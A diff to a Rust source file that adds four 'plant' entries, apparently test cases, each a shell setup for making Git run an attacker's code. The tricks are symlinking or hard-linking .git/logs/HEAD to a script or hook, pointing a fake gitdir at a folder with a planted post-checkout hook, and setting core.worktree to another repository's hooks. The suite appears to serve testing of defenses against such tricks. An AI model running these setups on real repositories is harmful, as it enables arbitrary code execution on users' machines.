@@ -227,6 +227,30 @@ const PLANTS: &[Plant] = &[
         "(sleep 1.{pid}; evil new) &",
         "git -C new status",
     ),
+    plant(
+        "git-symlink",
+        "let a file to which Git appends be a symlink to a script",
+        "git init -q new && cd new && git commit -q --allow-empty -m a && git checkout -q -b side && echo x > x && git add x && git commit -q -m \"x; $E; :\" && git checkout -q - && : > ../start && ln -sf $PWD/../start .git/logs/HEAD",
+        "git -C new cherry-pick side; sh start",
+    ),
+    plant(
+        "git-hard-link",
+        "give a hook of the user a second name that Git writes to",
+        "echo '#!/bin/sh' > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout; git init -q new && cd new && git commit -q --allow-empty -m a && git checkout -q -b side && echo x > x && git add x && git commit -q -m \"x; $E; :\" && git checkout -q - && ln -f ../.git/hooks/post-checkout .git/logs/HEAD",
+        "git -C new cherry-pick side; git checkout -q -b made",
+    ),
+    plant(
+        "git-new-meaning",
+        "let a relative path of a user's configuration lead into a folder of its own",
+        "mkdir -p husky/lib/.husky && echo 'gitdir: ../.git' > husky/lib/.git && cp $E husky/lib/.husky/post-checkout",
+        "git -C husky/lib checkout -q -b made",
+    ),
+    plant(
+        "git-work-tree-hooks",
+        "let the work tree of a repository be the hooks of another one",
+        "git init -q new && cd new && cp $E post-checkout && git add . && git commit -qm x && rm post-checkout && git config core.worktree ../../lib/.git/hooks",
+        "git -C new stash -q; git -C lib checkout -q -b made",
+    ),
 ];
 
 /// Runs all attempts.
